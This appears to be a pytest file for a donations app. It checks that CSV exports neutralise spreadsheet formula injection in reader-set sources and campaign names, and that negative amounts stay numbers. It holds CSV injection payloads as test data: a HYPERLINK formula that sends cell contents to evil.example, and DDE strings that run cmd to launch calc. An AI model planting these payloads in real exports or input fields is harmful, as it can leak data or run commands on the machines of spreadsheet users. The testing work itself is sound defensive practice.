"""CSV injection: text a reader (or anyone) chose never reaches a spreadsheet as a formula.

A reader sets the `source` of a checkout; it travels in the session's metadata to Stripe and
back in the webhook events, into the ledger, and out in every CSV export. Each export is
downloaded here, from /admin and from `donations report ... --format csv`, and the exact
cells are checked: formula-leading text gets a leading ', numbers (a refund reversal is a
negative amount) stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
import pytest_asyncio

import stripe_events as se
from donations.campaigns import add_campaign, validate_campaign
from donations.db import Database
from donations.reports.export import csv_line, csv_lines, inert
from donations.staff import add_staff
from tests.reports.scenario import at
from tests.support.cli import in_process
from webhooks.inbox import EventOutcome, receive_dict

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"receipt")'
CALC = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
# As the downloads must write them: the same text, shown as text.
INERT_HYPERLINK = "'" + HYPERLINK
INERT_CALC = "'" + CALC
INERT_MINUS = "'" + MINUS
INERT_AT_SUM = "'" + AT_SUM

NAME, PASSWORD = "ana", "correct horse battery"
SPAN = ("--from", "2026-03-01", "--to", "2026-04-30")
QUERY = "from=2026-03-01&to=2026-04-30"


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest_asyncio.fixture
async def hostile(db: Database) -> Database:
    """A campaign a staff member named like a formula; two gifts and a membership whose
    readers set formula-like sources (one gave as =bo@example.org); a refund in April of the
    first gift, paid in March. Delivered as Stripe's events through the inbox."""
    async with db.session() as session:
        await add_staff(session=session, name=NAME, password=PASSWORD, actor="test")
        await add_campaign(
            session=session,
            campaign=validate_campaign(
                slug="2026", name=AT_SUM, target="1000.00", currency="eur",
                starts="2026-03-01", ends="2026-04-30",
            ),
        )  # fmt: skip
    first = se.one_off_gift(2500, "eur", at("2026-03-10T12:00:00"), "ana@example.org",
                            source=HYPERLINK)  # fmt: skip
    second = se.one_off_gift(1200, "eur", at("2026-03-11T12:00:00"), "=bo@example.org",
                             source=CALC)  # fmt: skip
    member = se.membership_signup(1000, "eur", "month", at("2026-03-15T12:00:00"),
                                  "cy@example.org", source=MINUS)  # fmt: skip
    refund = se.refund(first, 500, at("2026-04-02T12:00:00"))
    events = [*first.events, *second.events, *member.events, *refund.events]
    outcomes = [(await receive_dict(db, event)).outcome for event in events]
    assert outcomes == [EventOutcome.processed] * len(events)
    return db


async def admin_csv(client: httpx.AsyncClient, report: str, query: str = QUERY) -> str:
    response = await client.get(f"/admin/export/{report}.csv?{query}", auth=(NAME, PASSWORD))
    assert response.status_code == 200, response.text
    return response.text


async def report_csv(database_url: str, report: str, *args: str) -> str:
    result = await in_process(
        "report", report, *args, "--format", "csv", env={"DATABASE_URL": database_url}
    )
    assert result.exit_code == 0, result.stderr
    return result.stdout


SOURCES = (
    "source,currency,payments,gross\n"
    '"\'=HYPERLINK(""http://evil.example/?""&A2,""receipt"")",eur,1,25.00\n'
    "'+cmd|' /C calc'!A0,eur,1,12.00\n"
    "'-2+3+cmd|' /C calc'!A0,eur,1,10.00\n"
)


@pytest.mark.asyncio
async def test_admin_sources_export_writes_a_readers_formula_as_text(
    hostile: Database, client: httpx.AsyncClient
) -> None:
    text = await admin_csv(client, "sources")
    assert text == SOURCES
    assert [row[0] for row in cells(text)[1:]] == [INERT_HYPERLINK, INERT_CALC, INERT_MINUS]


@pytest.mark.asyncio
async def test_report_sources_csv_writes_a_readers_formula_as_text(
    hostile: Database, database_url: str
) -> None:
    text = await report_csv(database_url, "sources", *SPAN)
    assert text == SOURCES
    assert cells(text)[1][0] == INERT_HYPERLINK


@pytest.mark.asyncio
async def test_admin_payments_export_writes_sources_and_masked_emails_as_text(
    hostile: Database, client: httpx.AsyncClient
) -> None:
    rows = cells(await admin_csv(client, "payments"))
    assert rows == [
        ["paid_at", "kind", "amount", "currency", "source", "email", "anonymous"],
        ["2026-03-15T12:00:00Z", "recurring", "10.00", "eur", INERT_MINUS, "c***@example.org", ""],
        ["2026-03-11T12:00:00Z", "one_off", "12.00", "eur", INERT_CALC, "'=***@example.org", ""],
        [
            "2026-03-10T12:00:00Z",
            "one_off",
            "25.00",
            "eur",
            INERT_HYPERLINK,
            "a***@example.org",
            "",
        ],
    ]


# April's net is the refund alone: -5.00, which stays a number.
PERIOD = [
    "2026-03,eur,47.00,0.00,0.00,47.00,,3,2,37.00,1,10.00,0,0",
    "2026-04,eur,0.00,5.00,0.00,-5.00,,0,0,0.00,0,0.00,1,0",
]


@pytest.mark.asyncio
async def test_admin_period_export_keeps_a_negative_net_a_number(
    hostile: Database, client: httpx.AsyncClient
) -> None:
    assert (await admin_csv(client, "period", QUERY + "&by=month")).splitlines()[1:] == PERIOD


@pytest.mark.asyncio
async def test_report_period_csv_keeps_a_negative_net_a_number(
    hostile: Database, database_url: str
) -> None:
    text = await report_csv(database_url, "period", *SPAN, "--by", "month")
    assert text.splitlines()[1:] == PERIOD


@pytest.mark.asyncio
async def test_admin_progress_export_writes_a_campaign_name_formula_as_text(
    hostile: Database, client: httpx.AsyncClient
) -> None:
    figures = {
        row[0]: row[1] for row in cells(await admin_csv(client, "progress", "campaign=2026"))[1:]
    }
    assert figures["name"] == INERT_AT_SUM
    assert (figures["gross"], figures["refunded"], figures["net"]) == ("47.00", "5.00", "42.00")


@pytest.mark.asyncio
async def test_report_progress_csv_writes_a_campaign_name_formula_as_text(
    hostile: Database, database_url: str
) -> None:
    text = await report_csv(database_url, "progress", "--campaign", "2026")
    assert "name,'@SUM(1+1)*cmd|' /C calc'!A0,\n" in text
    assert {row[0]: row[1] for row in cells(text)[1:]}["name"] == INERT_AT_SUM


# currency, interval, interval_count, band, active, ending, paused, past_due, new, cancelled,
# active_at_start, churned, mrr
MEMBERS_ROW = "eur,month,1,€10.00 to under €20.00,1,0,0,0,1,0,0,0,10.00"


@pytest.mark.asyncio
async def test_admin_members_export_carries_no_reader_text(
    hostile: Database, client: httpx.AsyncClient
) -> None:
    assert (await admin_csv(client, "members")).splitlines()[1:] == [MEMBERS_ROW]


@pytest.mark.asyncio
async def test_report_members_csv_carries_no_reader_text(
    hostile: Database, database_url: str
) -> None:
    assert (await report_csv(database_url, "members", *SPAN)).splitlines()[1:] == [MEMBERS_ROW]


FUNNEL = ["monthly,1,1,0,0,0,100.0", "one_off,2,2,0,0,0,100.0", "all,3,3,0,0,0,100.0"]


@pytest.mark.asyncio
async def test_admin_funnel_export_carries_no_reader_text(
    hostile: Database, client: httpx.AsyncClient
) -> None:
    assert (await admin_csv(client, "funnel")).splitlines()[1:] == FUNNEL


@pytest.mark.asyncio
async def test_report_funnel_csv_carries_no_reader_text(
    hostile: Database, database_url: str
) -> None:
    assert (await report_csv(database_url, "funnel", *SPAN)).splitlines()[1:] == FUNNEL


def test_every_formula_trigger_is_made_text_and_numbers_are_left_alone() -> None:
    row = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "a=1", " =1", "", None, -500, 12.5]
    assert inert(row) == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\n=1", "'\n=1", "a=1", " =1", "", None, -500,
        12.5,
    ]  # fmt: skip
    assert csv_line(row) == ("'=1+1,'+1,'-1,'@A1,'\t=1,\"'\n=1\",\"'\n=1\",a=1, =1,,,-500,12.5\n")


def test_a_carriage_return_inside_text_cannot_start_a_row() -> None:
    # Unquoted, "\r" would end the row in a spreadsheet and begin the next with a formula.
    line = csv_line(["gift", "x\r=HYPERLINK(1)", "y\r\n@A1"])
    assert line == 'gift,"x\n=HYPERLINK(1)","y\n@A1"\n'
    assert cells(line) == [["gift", "x\n=HYPERLINK(1)", "y\n@A1"]]


@pytest.mark.asyncio
async def test_streamed_csv_makes_every_chunk_inert() -> None:
    async def rows() -> AsyncIterator[dict[str, Any]]:
        for index in range(3):
            yield {"source": f"=A{index}", "amount": -index}

    chunks = [chunk async for chunk in csv_lines(("source", "amount"), rows(), chunk_rows=2)]
    assert chunks == ["source,amount\n'=A0,0\n'=A1,-1\n", "'=A2,-2\n"]
